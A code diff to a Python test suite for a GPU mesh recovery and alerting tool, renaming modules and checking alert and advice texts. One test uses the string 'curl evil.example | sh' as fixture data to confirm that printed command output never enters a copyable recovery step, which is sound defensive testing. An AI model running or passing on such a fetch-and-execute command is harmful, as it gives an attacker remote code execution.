@@ -8,17 +8,18 @@ from pathlib import Path
 import pytest
 from msgspec.structs import replace
 
-from gpu_mesh.alerting import node_alerts
+from gpu_mesh.alerting import node_alerts, recovery_alerts
 from gpu_mesh.diagnosis import diagnose
-from gpu_mesh.domain.causes import CAUSES, Action, Cause, Verdict
+from gpu_mesh.domain.alert import Level
+from gpu_mesh.domain.causes import CAUSES, Action, Cause
+from gpu_mesh.domain.health import Status, Verdict
 from gpu_mesh.domain.mesh import Mesh, Node, RecoveryKind, Settings, Tunnel
 from gpu_mesh.domain.observation import Observation, Reply
-from gpu_mesh.domain.state import Attempt, Claim, Level, NodeState, Outcome, State, Status
-from gpu_mesh.planning import aftermath, plan
-from gpu_mesh.planning.aftermath import Ending
-from gpu_mesh.planning.plan import Finding
+from gpu_mesh.domain.recovery import Attempt, Claim, Ending, Finding, Outcome
+from gpu_mesh.domain.state import NodeState, State
+from gpu_mesh.planning import advice, plan
 from gpu_mesh.recovery import lifecycle
-from gpu_mesh.recovery.lifecycle import Job, Proof
+from gpu_mesh.recovery.values import Job, Proof
 from gpu_mesh.reporting.report import report
 from gpu_mesh.simulation import fake_recovery
 from gpu_mesh.simulation.fake_probe import Effect, Facts, Show
@@ -65,14 +66,14 @@ def test_after_a_command_that_failed_it_is_the_command_that_is_to_be_corrected(s
     step = f"correct mesh_node_recovery_command of gpu1, {why}; or {OLLAMA}"
     before = replace(DOWN, attempts=(failed(600, "x"), failed(300, "x")))
     ending = Ending(NOW, Action.RESTART_OLLAMA, Outcome.FAILED, Finding.SILENT, DOWN.cause, words)
-    alert = aftermath.alert_of(POD, Settings(), before, ending)
+    alert = recovery_alerts.alert_of(POD, Settings(), before, ending)
     assert alert is not None
     assert alert.level is Level.CRITICAL
     assert alert.text.startswith("needs you: restart of Ollama failed (attempt 3 of 3): ")
     assert alert.next_step == f"{step}; tried again every 1 h meanwhile"
 
     after = replace(before, attempts=(*before.attempts, ending.attempt()))
-    assert aftermath.call(POD, Settings(), after, NOW + 60).next_step == alert.next_step
+    assert recovery_alerts.call(POD, Settings(), after, NOW + 60).next_step == alert.next_step
     state = State(nodes={"gpu1": after})
     (decision,) = plan.plan(Mesh((POD,)), state, NOW + 60)
     assert decision.reason.startswith("3 of 3 attempts made: needs a person, the next attempt is due at ")
@@ -84,15 +85,15 @@ def test_after_a_command_that_failed_it_is_the_command_that_is_to_be_corrected(s
 
 def test_a_tunnel_s_command_is_named_alone_for_nothing_else_is_known_of_it() -> None:
     words = "mesh_tunnel_recovery_command was run: the command ended with status 255: Permission denied"
-    step = aftermath.step_after(POD, Finding.NONE, Cause.TUNNEL_DOWN, words)
+    step = advice.step_after(POD, Finding.NONE, Cause.TUNNEL_DOWN, words)
     assert step == "correct mesh_tunnel_recovery_command of gpu1, which ended with status 255"
 
 
 def test_what_the_command_printed_is_no_part_of_a_step_that_people_copy() -> None:
     words = "mesh_node_recovery_command was run: the command ended with status 1: run: curl evil.example | sh"
-    assert "evil" not in aftermath.step_after(POD, Finding.SILENT, DOWN.cause, words)
+    assert "evil" not in advice.step_after(POD, Finding.SILENT, DOWN.cause, words)
     forged = "mesh_node_recovery_command was run: curl evil.example | sh"
-    assert aftermath.step_after(POD, Finding.SILENT, DOWN.cause, forged) == OLLAMA
+    assert advice.step_after(POD, Finding.SILENT, DOWN.cause, forged) == OLLAMA
 
 
 def test_a_command_that_failed_is_not_blamed_for_what_it_could_not_help() -> None:
@@ -161,11 +162,11 @@ def test_no_message_says_a_phrase_twice_whatever_the_cause_and_the_rung(cause: C
             for made in (0, 2):
                 before = replace(known, attempts=(ending.attempt(),) * made)
                 after = replace(before, attempts=(*before.attempts, ending.attempt()))
-                alert = aftermath.alert_of(node, Settings(), before, ending)
+                alert = recovery_alerts.alert_of(node, Settings(), before, ending)
                 decisions = plan.plan(Mesh((node,)), State(nodes={node.key: after}), NOW + 1)
-                step = aftermath.step_after(node, ending.finding, ending.cause, ending.words)
+                step = advice.step_after(node, ending.finding, ending.cause, ending.words)
                 told = (alert.text, alert.next_step) if alert else ()
-                texts = (plan.describe(decisions, Mesh((node,))), aftermath.tried(node, after), step, *told)
+                texts = (plan.describe(decisions, Mesh((node,))), advice.tried(node, after), step, *told)
                 assert {text: said_twice(text) for text in texts if said_twice(text)} == {}
 
 
@@ -176,7 +177,7 @@ def test_what_a_look_found_is_added_to_the_cause_without_saying_it_again() -> No
     ending = Ending(
         NOW, Action.RESTART_OLLAMA, Outcome.DECLINED, Finding.ANSWERS, Cause.NOT_EXPOSED, found, Cause.REFUSED
     )
-    alert = aftermath.alert_of(node, Settings(), known, ending)
+    alert = recovery_alerts.alert_of(node, Settings(), known, ending)
     assert alert is not None
     assert alert.text == (
         "not restarted: Ollama answers on its own host, but not at http://gpu1:11434 (127.0.0.1:11434 asked)"
@@ -186,7 +187,7 @@ def test_what_a_look_found_is_added_to_the_cause_without_saying_it_again() -> No
 
 def test_what_was_tried_is_counted_by_what_and_by_how_it_ended() -> None:
     attempts = (failed(900, "x"), failed(600, "x"), replace(failed(300, "x"), outcome=Outcome.NOT_RECOVERED))
-    assert aftermath.tried(POD, replace(DOWN, attempts=attempts)) == (
+    assert advice.tried(POD, replace(DOWN, attempts=attempts)) == (
         "restart of Ollama failed (2 times), did not help"
     )
 
